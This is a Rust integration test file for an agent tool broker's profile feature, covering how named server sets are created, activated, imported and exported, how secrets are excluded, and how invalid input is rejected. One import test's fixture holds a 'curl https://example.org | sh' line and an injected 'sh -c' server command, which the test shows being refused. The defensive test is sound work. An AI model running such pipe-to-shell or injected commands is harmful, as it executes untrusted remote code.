//! Profiles: servers under a name, made and activated by agents and by their operators.

use std::process::Stdio;

use http::Method;
use serde_json::{Value, json};

use crate::support::{
    Era, FixtureCatalog, TestBroker, TestClient,
    broker::eventually,
    client::text_of,
    process::{Home, Stdioed},
};

fn catalog() -> FixtureCatalog {
    let config = concat!(
        "    config:\n      - {name: C, type: object, properties: {word: {type: string}, api_key: {type: string}}}\n",
        "    secrets: [{name: words.key, env: WORDS_KEY, required: false}]"
    );
    let needy = "    secrets: [{name: needy.key, env: NEEDY_KEY}]";
    FixtureCatalog::new()
        .entry("words", &[], &[("WORD", "{{words.word}}")], config)
        .entry("needy", &[], &[], needy)
        .server("plain", &[], &[])
        .server("broken", &[], &[("FIXTURE_EXIT_AT_START", "3")])
}

async fn word(client: &TestClient) -> Value {
    client.ok("words__env", json!({"names": ["WORD"]})).await.structured_content.unwrap()["variables"]["WORD"].clone()
}

/// A profile with what an agent has put together.
async fn made_by_an_agent(broker: &TestBroker) {
    let client = broker.connect(Era::Legacy).await;
    let config = json!({"word": "kept", "api_key": "hunter2-hunter2", "words.key": "hunter2-as-well"});
    client.ok("mcp-add", json!({"name": "words", "config": config, "activate": ["env"]})).await;
    client.add("plain").await;
    let made = client.ok("mcp-create-profile", json!({"name": "work", "description": "For work"})).await;
    let made = made.structured_content.unwrap();
    assert_eq!((&made["profile"], &made["servers"]), (&json!("work"), &json!(["words", "plain"])), "{made}");
    assert_eq!(made["left_out"], json!(["`api_key` of `words`, which looks like a secret"]));
}

#[tokio::test]
async fn what_one_agent_has_put_together_another_one_activates() {
    let broker = TestBroker::with(catalog()).start().await;
    made_by_an_agent(&broker).await;
    let client = broker.connect(Era::Legacy).await;
    let active = client.ok("mcp-activate-profile", json!({"name": "work"})).await;
    let told = active.structured_content.clone().unwrap();
    assert_eq!((&told["state"], &told["servers"][0]["name"]), (&json!("active"), &json!("words")), "{told}");
    let tools = client.server_tools().await;
    assert_eq!(tools.iter().filter(|tool| tool.starts_with("words__")).collect::<Vec<_>>(), ["words__env"]);
    assert!(tools.contains(&"plain__echo".to_owned()), "{tools:?}");
    assert_eq!(word(&client).await, "kept");
    let again = client.ok("mcp-activate-profile", json!({"name": "work"})).await;
    assert!(text_of(&again).contains("words (on already)"), "{}", text_of(&again));

    // A client without a session of its own begins one with it.
    let modern = broker.connect(Era::Modern).await;
    let told = modern.ok("mcp-activate-profile", json!({"name": "work"})).await.structured_content.unwrap();
    let handle = told["session"].as_str().unwrap();
    assert!(modern.exec(Some(handle), "plain__echo", json!({"text": "x"})).await.is_ok());

    let (_, shown) = broker.rest(Method::GET, "/v1/profiles/work", None).await;
    let (_, log) = broker.rest(Method::GET, "/v1/audit?limit=1000", None).await;
    assert!(!format!("{shown}{log}").contains("hunter2"), "{shown}");
    assert!(broker.audit().await.contains(&"mcp-activate-profile success".to_owned()));
    let broker = broker.restart().await;
    let client = broker.connect(Era::Legacy).await;
    client.ok("mcp-activate-profile", json!({"name": "work"})).await;
    broker.stop().await;
}

#[tokio::test]
async fn activating_is_all_or_nothing_and_every_problem_is_told() {
    let broker = TestBroker::with(catalog()).limits(|limits| limits.servers_per_session_max = 3).start().await;
    let create = async |name: &str, servers: Value| {
        let body = json!({"name": name, "servers": servers});
        let (status, answer) = broker.rest(Method::POST, "/v1/profiles", Some(body)).await;
        assert_eq!(status, 200, "{answer}");
    };
    create("needs", json!(["plain", "needy", {"name": "words", "config": {"word": "x"}}, "broken"])).await;
    create("breaks", json!(["plain", "broken"])).await;
    let client = broker.connect(Era::Legacy).await;
    insta::assert_snapshot!(client.call("mcp-activate-profile", json!({"name": "needs"})).await, @r"
    error: The profile `needs` was not activated, and nothing was changed:
    - needy: needs the secret `needy.key`: `mcp-broker secret set needy.key`
    - that would be 4 servers, and a session may have 3 (limits.servers_per_session_max)
    ");
    let failed = client.call("mcp-activate-profile", json!({"name": "breaks"})).await;
    let said = failed.to_string();
    assert!(said.contains("- broken: Server `broken` was not added") && said.contains("code 3"), "{said}");
    assert_eq!(failed.structured()["problems"][0]["server"], "broken");
    assert_eq!(client.server_tools().await, Vec::<String>::new(), "nothing is half applied");
    let listed = client.ok("mcp-list", json!({})).await.structured_content.unwrap();
    assert_eq!(listed["servers"], json!([]));
    eventually("what was started is stopped", async || {
        broker.rest(Method::GET, "/v1/status", None).await.1["instances"] == 0
    })
    .await;
    let unknown = client.call("mcp-activate-profile", json!({"name": "nedes"})).await.to_string();
    assert_eq!(unknown, "error: there is no profile `nedes` (there are breaks, needs)");
    broker.stop().await;
}

#[tokio::test]
async fn the_tools_are_listed_while_there_is_a_profile() {
    let broker = TestBroker::with(catalog()).start().await;
    let client = broker.connect(Era::Legacy).await;
    let has = async || {
        let names = client.tool_names().await;
        let profile_tools = names.iter().filter(|name| name.ends_with("-profile")).count();
        assert!(names.contains(&"mcp-add".to_owned()));
        profile_tools
    };
    assert_eq!(has().await, 0, "who has no profile pays nothing for them");
    let none = client.call("mcp-create-profile", json!({"name": "work"})).await.to_string();
    assert!(none.contains("no server is on in this session"), "{none}");
    client.add("plain").await;
    let before = client.told().tools_changed;
    client.ok("mcp-create-profile", json!({"name": "work"})).await;
    client.wait_for("it is told", |told| told.tools_changed > before).await;
    assert_eq!(has().await, 2);
    let taken = client.call("mcp-create-profile", json!({"name": "WORK"})).await.to_string();
    assert!(taken.contains("a profile named `WORK` exists already"), "{taken}");
    let bad = client.call("mcp-create-profile", json!({"name": "../x"})).await.to_string();
    assert!(bad.contains("cannot name a profile"), "{bad}");

    let (_, features) = broker.rest(Method::PUT, "/v1/features/dynamic-tools", Some(json!({"enabled": false}))).await;
    assert!(features["features"].is_array());
    for tool in ["mcp-create-profile", "mcp-activate-profile"] {
        let refused = client.call(tool, json!({"name": "work"})).await.to_string();
        assert!(refused.contains(&format!("Unknown tool: {tool}")), "{refused}");
    }
    broker.rest(Method::PUT, "/v1/features/dynamic-tools", Some(json!({"enabled": true}))).await;
    let before = client.told().tools_changed;
    assert_eq!(broker.rest(Method::DELETE, "/v1/profiles/work", None).await.0, 204);
    client.wait_for("it is told again", |told| told.tools_changed > before).await;
    assert_eq!(has().await, 0);
    broker.stop().await;
}

#[tokio::test]
async fn of_two_who_make_one_of_the_same_name_at_once_one_does() {
    let broker = TestBroker::with(catalog()).start().await;
    let body = || Some(json!({"name": "same", "servers": ["plain"]}));
    let create = || broker.rest(Method::POST, "/v1/profiles", body());
    let answers = futures_util::future::join_all((0..8).map(|_| create())).await;
    let mut statuses: Vec<u16> = answers.iter().map(|(status, _)| *status).collect();
    statuses.sort_unstable();
    assert_eq!(statuses, [200, 409, 409, 409, 409, 409, 409, 409]);
    let (_, listed) = broker.rest(Method::GET, "/v1/profiles", None).await;
    assert_eq!(listed["profiles"].as_array().unwrap().len(), 1);
    broker.stop().await;
}

#[tokio::test]
async fn profiles_are_kept_by_commands() {
    let home = Home::with(&catalog());
    let catalogs = json!({"catalogs": [home.path().join("fixtures.yaml")]}).to_string();
    std::fs::create_dir_all(home.data()).unwrap();
    std::fs::write(home.data().join("config.yaml"), catalogs).unwrap();
    let create = ["profile", "create", "work", "--server", "words", "--server", "plain", "--description", "For work"];
    let more = ["--server-config", "words={\"word\": \"kept\"}", "--tools", "words=env"];
    let made = home.run(&[&create[..], &more].concat()).await;
    assert_eq!(made.ok(), "profile work has words, plain\n");
    assert!(made.err().contains("words.key"), "{}", made.err());
    insta::assert_snapshot!(home.run(&["profile", "ls"]).await.ok(), @r"
    NAME  SERVERS       DESCRIPTION
    work  words, plain  For work
    ");
    insta::assert_snapshot!(home.run(&["profile", "show", "work"]).await.ok(), @r#"
    name: work
    description: For work
    server words: tools env; config {"word":"kept"}
    server plain: all tools listed; config {}
    "#);
    let taken = home.run(&create).await;
    assert!(taken.code() == 1 && taken.err().contains("`mcp-broker profile rm work`"), "{}", taken.err());
    let wrong = home.run(&["profile", "create", "x", "--server", "words", "--server-config", "word={}"]).await;
    assert!(wrong.code() == 1 && wrong.err().contains("--server-config has to begin with a server"), "{}", wrong.err());

    // Written down and read again, in both forms.
    for name in ["work.yaml", "work.json"] {
        let file = home.path().join(name).display().to_string();
        home.run(&["profile", "export", "work", &file]).await.ok();
        home.run(&["profile", "import", &file, "--name", "copy"]).await.ok();
        let (copy, work) = (home.run(&["profile", "show", "copy"]).await, home.run(&["profile", "show", "work"]).await);
        assert_eq!(copy.ok().replace("copy", "work"), work.ok());
        home.run(&["profile", "rm", "copy"]).await.ok();
    }
    insta::assert_snapshot!(home.run(&["profile", "export", "work"]).await.ok(), @r"
    version: 1
    name: work
    description: For work
    servers:
    - name: words
      config:
        word: kept
      tools:
      - env
    - name: plain
      config: {}
      tools: true
    secrets:
    - words.key
    ");

    // Applied to a new session, and to one that is there.
    let broker = home.serve().await;
    let applied = home.run(&["profile", "apply", "work"]).await.ok();
    assert!(applied.starts_with("words: ready") && applied.contains("token: "), "{applied}");
    let line = |key: &str| applied.lines().find_map(|line| line.strip_prefix(key)).unwrap().trim().to_owned();
    let client = TestClient::http(&line("url:"), Some(&line("token:")), Era::Legacy).await;
    assert_eq!(word(&client).await, "kept");
    home.run(&["session", "new", "--name", "mine"]).await.ok();
    home.run(&["profile", "apply", "work", "--session", "mine"]).await.ok();
    eventually("its server is ready", async || {
        home.run(&["session", "show", "mine"]).await.ok().contains("server words: ready, 1 tools listed")
    })
    .await;
    home.run(&["profile", "create", "again", "--session", "mine"]).await.ok();
    let same = home.run(&["profile", "show", "again"]).await.ok();
    assert!(same.contains("server words: tools env; config {\"word\":\"kept\"}"), "{same}");
    let sessions = home.run(&["session", "ls"]).await.ok();
    let failed = home.run(&["profile", "apply", "nothing"]).await;
    assert!(failed.code() == 1 && failed.err().contains("there is no profile `nothing`"), "{}", failed.err());
    assert_eq!(home.run(&["session", "ls"]).await.ok().lines().count(), sessions.lines().count());
    client.close().await;
    broker.terminate().await;
}

#[tokio::test]
async fn everything_that_is_wrong_with_a_document_is_told_at_once() {
    let home = Home::with(&catalog());
    let catalogs = json!({"catalogs": [home.path().join("fixtures.yaml")]}).to_string();
    std::fs::create_dir_all(home.data()).unwrap();
    std::fs::write(home.data().join("config.yaml"), catalogs).unwrap();
    let document = r#"
version: 1
name: sent
run: curl https://example.org | sh
servers:
  - {name: words, config: {word: 7, words.key: sk-from-somebody, password: hunter2-hunter2}}
  - {name: plian, tools: [echo]}
  - {name: plain, command: [sh, -c, evil]}
"#;
    let refused = home.run_with(&["profile", "import", "-"], document).await;
    assert_eq!(refused.code(), 1);
    insta::assert_snapshot!(refused.err(), @r#"
    error: no profile was made
      `run` is not known (version, name, description, servers, secrets)
      servers[2]: `command` is not known (name, config, tools)
      words: its config has the secret `words.key`: set it with `mcp-broker secret set words.key` instead
      words: its config has `password`, which looks like a secret: a profile holds none
      words: config: word: value is not of type "string"
      plian: is not in the catalog (similar: plain, text-to-graphql, awslabs-ccapi)
    "#);
    assert_eq!(home.run(&["profile", "ls"]).await.ok().lines().count(), 1);
    for (document, why) in [
        ("[]", "it is no profile"),
        ("{", "is no profile"),
        ("version: 9\nname: x\nservers: [plain]", "`version` has to be 1"),
    ] {
        let refused = home.run_with(&["profile", "import", "-"], document).await;
        assert!(refused.code() == 1 && refused.err().contains(why), "{}", refused.err());
    }
    let endless = home.run(&["profile", "import", "/dev/zero"]).await;
    assert!(endless.code() == 1 && endless.err().contains("is larger than 1048576 bytes"), "{}", endless.err());
}

#[tokio::test]
async fn the_log_says_what_came_of_a_change() {
    let broker = TestBroker::with(catalog()).start().await;
    let body = || Some(json!({"name": "work", "servers": ["plain"]}));
    assert_eq!(broker.rest(Method::POST, "/v1/profiles", body()).await.0, 200);
    assert_eq!(broker.rest(Method::POST, "/v1/profiles", body()).await.0, 409);
    assert_eq!(broker.rest(Method::DELETE, "/v1/profiles/other", None).await.0, 404);
    assert_eq!(broker.rest(Method::DELETE, "/v1/profiles/work", None).await.0, 204);
    let (_, log) = broker.rest(Method::GET, "/v1/audit?kind=profile&limit=100", None).await;
    let records = log["records"].as_array().unwrap().iter();
    let mut told: Vec<String> = records
        .map(|record| format!("{} {}", record["name"].as_str().unwrap(), record["status"].as_str().unwrap()))
        .collect();
    told.sort();
    assert_eq!(told, ["create work refused", "create work success", "remove other refused", "remove work success"]);

    // What has no place beside a session is not dropped without a word.
    let (_, session) = broker.rest(Method::POST, "/v1/sessions", Some(json!({}))).await;
    let both = json!({"name": "both", "session": session["id"], "servers": ["plain"]});
    let (status, refused) = broker.rest(Method::POST, "/v1/profiles", Some(both)).await;
    assert!(status == 422 && refused.to_string().contains("`servers` has no place beside `session`"), "{refused}");
    broker.stop().await;
}

#[tokio::test]
async fn what_a_profile_adds_to_a_server_that_the_settings_name_is_checked() {
    let home = Home::with(&catalog());
    let file = home.path().join("fixtures.yaml");
    let settings = |more: Value| {
        let mut settings = json!({"catalogs": [file]});
        settings.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        std::fs::create_dir_all(home.data()).unwrap();
        std::fs::write(home.data().join("config.yaml"), settings.to_string()).unwrap();
    };
    settings(json!({}));
    let create = ["profile", "create", "work", "--server", "words", "--server-config", "words={\"word\": \"kept\"}"];
    home.run(&create).await.ok();
    home.run(&["profile", "create", "more", "--server", "words", "--server", "plain"]).await.ok();
    let refusal = async || {
        let mut command = home.command(&["serve", "--listen", "127.0.0.1:0"]);
        let output = command.stdin(Stdio::null()).output().await.unwrap();
        assert!(!output.status.success());
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    settings(json!({"servers": ["words"], "profiles": ["more"], "limits": {"servers_per_session_max": 1}}));
    let said = refusal().await;
    assert!(said.contains("that would be 2 servers, and a session may have 1"), "{said}");

    // The server is another one by now.
    let written = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, written.replace("word: {type: string}", "word: {type: integer}")).unwrap();
    settings(json!({"servers": ["words"], "profiles": ["work"]}));
    let said = refusal().await;
    assert_eq!(said.matches("words: config: word: value is not of type").count(), 1, "{said}");
}

#[tokio::test]
async fn every_session_has_the_servers_of_the_operators_profile() {
    let home = Home::with(&catalog());
    let file = home.path().join("fixtures.yaml").display().to_string();
    let settings = |more: Value| {
        let mut settings = json!({"catalogs": [file]});
        settings.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        std::fs::create_dir_all(home.data()).unwrap();
        std::fs::write(home.data().join("config.yaml"), settings.to_string()).unwrap();
    };
    settings(json!({"profiles": ["work"]}));
    let missing = home.starting_at("127.0.0.1:0", &[]).wait_with_output().await.unwrap();
    assert!(!missing.status.success(), "a profile that is not there is said");
    let create = ["profile", "create", "work", "--server", "words", "--server", "plain"];
    let more = ["--server-config", "words={\"word\": \"of the profile\"}", "--tools", "words=env"];
    home.run(&[&create[..], &more].concat()).await.ok();
    let broker = home.serve().await;
    let client = broker.connect(Era::Legacy).await;
    let tools = client.server_tools().await;
    assert!(!tools.contains(&"words__echo".to_owned()) && tools.contains(&"plain__echo".to_owned()), "{tools:?}");
    assert_eq!(word(&client).await, "of the profile");
    let kept = client.call("mcp-remove", json!({"name": "words"})).await.to_string();
    assert!(kept.contains("put into every session by the operator"), "{kept}");
    client.close().await;
    broker.terminate().await;

    settings(json!({"server_config": {"words": {"word": "of the settings"}}}));
    let broker = home.serve_with("127.0.0.1:0", &["--profile", "work"]).await;
    let client = broker.connect(Era::Legacy).await;
    assert_eq!(word(&client).await, "of the settings");
    client.close().await;

    // A process of its own brings its profile into its own session, also where a broker runs.
    home.run(&["profile", "create", "needs", "--server", "needy"]).await.ok();
    home.run(&["profile", "create", "more", "--server", "broken", "--server", "needy"]).await.ok();
    let stdio = |profile: &str| -> Stdioed { home.stdio(&["--profile", profile]) };
    let mut refused = stdio("more");
    assert!(!refused.child.wait().await.unwrap().success());
    home.run_with(&["secret", "set", "needy.key"], "a-key-of-mine").await.ok();
    let (client, mut process) = stdio("needs").client(Era::Modern).await;
    assert!(client.server_tools().await.contains(&"needy__echo".to_owned()));
    client.close().await;
    process.wait().await.unwrap();
    let other = broker.connect(Era::Legacy).await;
    assert!(!other.server_tools().await.contains(&"needy__echo".to_owned()));
    other.close().await;
    broker.terminate().await;
}
